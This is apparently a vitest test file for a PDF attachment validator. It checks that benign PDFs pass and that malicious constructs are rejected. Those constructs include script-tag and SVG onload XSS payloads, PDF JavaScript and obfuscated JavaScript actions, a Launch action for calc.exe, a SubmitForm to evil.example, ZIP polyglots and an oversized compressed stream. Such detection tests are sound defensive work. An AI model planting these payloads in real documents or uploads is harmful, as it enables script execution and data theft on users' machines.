import { deflateSync } from 'node:zlib';
import { expect, it } from 'vitest';
import { checkPdf } from './check-pdf.ts';

const BODY = '1 0 obj\n<< /Type /Catalog /Pages 2 0 R >>\nendobj\n';
const pdf = (body: string | Buffer = BODY, tail = '%%EOF\n') =>
  Buffer.concat([Buffer.from('%PDF-1.7\n'), Buffer.from(body), Buffer.from(`trailer << /Root 1 0 R >>\n${tail}`)]);
const objects = (content: string, dictionary = '/Type /ObjStm /Filter /FlateDecode') =>
  Buffer.concat([
    Buffer.from(`3 0 obj\n<< ${dictionary} >>\nstream\n`),
    deflateSync(content),
    Buffer.from('\nendstream\nendobj\n'),
  ]);

it.each<[string, Buffer]>([
  ['a document', pdf()],
  ['compressed objects', pdf(objects('<< /Type /Page >>'))],
  ['a picture that is not compressed with zlib', pdf('<< /Filter /DCTDecode >>\nstream\n\xff\xd8\xff\nendstream\n')],
  [
    'a picture behind compressed objects',
    pdf(
      Buffer.concat([
        objects('<< /Type /Page >>'),
        Buffer.from('4 0 obj\n<< /Filter /DCTDecode >>\nstream\n\xff\nendstream\n'),
      ]),
    ),
  ],
  ['the words in a compressed text', pdf(objects('(JavaScript)', '/Length 9'))],
])('takes %s', async (_, bytes) => {
  await expect(checkPdf(bytes)).resolves.toBeUndefined();
});

it.each<[string, Buffer]>([
  ['a page', Buffer.from('<!doctype html><script>alert(1)</script>')],
  ['a head that comes later', Buffer.concat([Buffer.from('PK\x03\x04'), pdf()])],
  ['an archive behind it', Buffer.concat([pdf(), Buffer.from('PK\x05\x06')])],
  ['no end', pdf(BODY, '')],
  ['a page inside', pdf('%<html><script>alert(1)</script>\n')],
  ['a drawing inside', pdf('%<svg onload=alert(1)>\n')],
  ['a script', pdf('<< /S /JavaScript /JS (app.alert(1)) >>')],
  ['a script by the numbers of its letters', pdf('<< /S /J#61vaScript >>')],
  ['a program to start', pdf('<< /S /Launch /F (calc.exe) >>')],
  ['a file inside', pdf('<< /Type /EmbeddedFile >>')],
  ['a form that sends', pdf('<< /S /SubmitForm /F (https://evil.example) >>')],
  ['encryption', pdf('<< /Encrypt 5 0 R >>')],
  ['a script in compressed objects', pdf(objects('<< /S /JavaScript >>'))],
  ['a script in compressed objects that do not say so', pdf(objects('<< /S /JavaScript >>', ''))],
  ['objects packed in another way', pdf('<< /Type /ObjStm /Filter /LZWDecode >>\nstream\n\x80\x0b\nendstream\n')],
  [
    'objects packed in another way behind an end that is none',
    pdf('<< /Type /ObjStm /X (\nendobj\n) /Filter /LZWDecode >>\nstream\n\x80\x0b\nendstream\n'),
  ],
  ['more objects than are looked through', pdf(objects(' '.repeat(5_000_000)))],
])('refuses %s', async (_, bytes) => {
  await expect(checkPdf(bytes)).rejects.toThrow('attachment_pdf');
});
